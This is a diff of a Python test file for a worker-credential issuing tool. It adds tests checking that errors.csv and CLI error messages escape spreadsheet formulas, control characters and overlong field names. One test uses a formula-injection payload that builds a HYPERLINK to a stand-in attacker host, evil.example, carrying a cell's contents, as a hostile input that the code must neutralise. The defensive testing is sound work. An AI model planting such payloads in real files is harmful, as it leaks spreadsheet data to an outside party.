@@ -145,8 +145,11 @@ def test_a_batch_issues_good_rows_reports_bad_ones_and_is_idempotent(tmp_path: P
         entries = manifest(out)
         assert len({e["status"]["index"] for e in entries}) == len(entries) == result.issued_now
         keyring = anxinma.Keyring([KEY_A.public_key()])
-        colours = {anxinma.verify(e["code"], keyring, now=NOW).color for e in entries}
-        assert anxinma.Color.GREEN in colours and anxinma.Color.YELLOW in colours
+        verdicts = [anxinma.verify(e["code"], keyring, now=NOW) for e in entries]
+        # A keyring never checks status: every code (each has a status entry) is status_not_checked
+        # first (spec §10.4); beyond that, some are clean and some yellow for their documents.
+        assert all(v.reasons[:1] == (anxinma.Reason.STATUS_NOT_CHECKED,) for v in verdicts)
+        assert {v.reasons[1:] == () for v in verdicts} == {True, False}
         events = db._db.execute("SELECT COUNT(*) FROM events").fetchone()[0]
         again = batch(db, data, out, cards=True)
         assert (again.issued_now, again.issued_before, again.files_written) == (0, result.issued_now, 0)
@@ -188,6 +191,45 @@ def test_bad_rows_never_vanish_csv_and_jsonl(tmp_path: Path) -> None:
     reasons = {b.row: b.reason for b in result.bad}
     assert "already holds card NB1" in reasons[5] and "another person" in reasons[7]
     assert "not UTF-8" in reasons[9]
+
+
+def test_errors_csv_neutralises_formulas_and_shows_unknown_field_names_short(tmp_path: Path) -> None:
+    """issue 9 item 11: a JSONL key named =HYPERLINK(...) lands in errors.csv neither as a formula
+    nor in full; every cell of errors.csv is safe to open in a spreadsheet."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
+    record = json.loads(json.dumps(anxinma._demo.reference_record()))
+    keys = [formula + "x" * 5000, "@SUM(1+1)\u202e", "+1", "-2+3", "\tcmd", "\r=1", " =1", "＝1+1"]
+    lines = [json.dumps({**record, key: 1}, ensure_ascii=False) for key in keys]
+    lines.append(json.dumps({**record, "card_no": "-3"}))  # a value that is not a plain number either
+    out = tmp_path / "out"
+    data = ("\n".join(lines) + "\n").encode()
+    with new_db(tmp_path / "issuer.db") as db:
+        opts = BatchOptions(out=out, jobs=1, image=None)
+        result = run_batch(data, source="w.jsonl", key=KEY_A, db=db, options=opts, now=NOW)
+    assert result.issued_now == 0 and len(result.bad) == len(lines)
+    text = (out / "errors.csv").read_text(encoding="utf-8")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["row", "field", "reason"]
+    fields = [r[1] for r in rows[1:]]
+    assert fields[0] == "'" + formula[:37] + "..."  # apostrophe, then at most 40 characters
+    assert fields[1] == "'@SUM(1+1)\\u202e"  # the override character escaped, not written
+    assert fields[2:8] == ["'+1", "'-2+3", "\\tcmd", "\\r=1", "' =1", "'＝1+1"]  # TAB, CR escaped
+    assert fields[8] == "card_no"
+    for row in rows[1:]:
+        for cell in row:
+            assert cell[:1] not in "=+-@\t\r" or cell.lstrip("-").isdigit(), row
+        assert all(len(cell) < 200 for cell in row)
+    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, len(lines) + 1)]  # numbers stay data
+
+
+def test_an_unknown_csv_column_is_named_short_and_escaped() -> None:
+    """issue 9 item 11: an unknown column name is never echoed in full or with control characters."""
+    header = "name,id_number,card_no," + "=HYPERLINK(1)\u202e" + "y" * 3000 + "\n"
+    with pytest.raises(anxinma.UsageError) as caught:
+        read_input(header.encode(), name="w.csv")
+    message = str(caught.value)
+    assert "unknown column '=HYPERLINK(1)\\u202e" + "y" * 18 + "...'" in message
+    assert "\u202e" not in message and len(message) < 400
 
 
 def test_reissue_revokes_the_old_credential_in_the_same_step(tmp_path: Path) -> None:
@@ -410,3 +452,20 @@ def test_photos_go_on_cards_only_and_a_bad_photo_is_a_bad_row(
         monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
         with pytest.raises(anxinma.UsageError, match=r"anxinma\[png\]"):
             batch(db, data, tmp_path / "out3", cards=True, image="png")
+
+
+def test_a_field_name_from_input_is_shown_short_in_every_message(tmp_path: Path) -> None:
+    """issue 9 item 11: `anxinma issue` names an unknown or repeated JSON key escaped and cut to
+    40 characters, on one line (a 5,000-character key is not echoed)."""
+    from .test_cli import assert_one_error, run
+
+    long_key = "=HYPERLINK(1)\u202e" + "k" * 5000
+    unknown = tmp_path / "unknown.json"
+    unknown.write_text(json.dumps({**anxinma._demo.reference_record(), long_key: 1}), "utf-8")
+    twice = tmp_path / "twice.json"
+    twice.write_text('{"' + long_key + '": 1, "' + long_key + '": 2}', "utf-8")
+    shown = "=HYPERLINK(1)\\u202e" + "k" * 18 + "..."
+    for path, what in ((unknown, "is not a worker record field"), (twice, "appears twice")):
+        result = run("issue", path, "--key", tmp_path / "absent.pem")
+        assert_one_error(result, 2, f"{shown}: {what}")
+        assert len(result.stderr) < 200
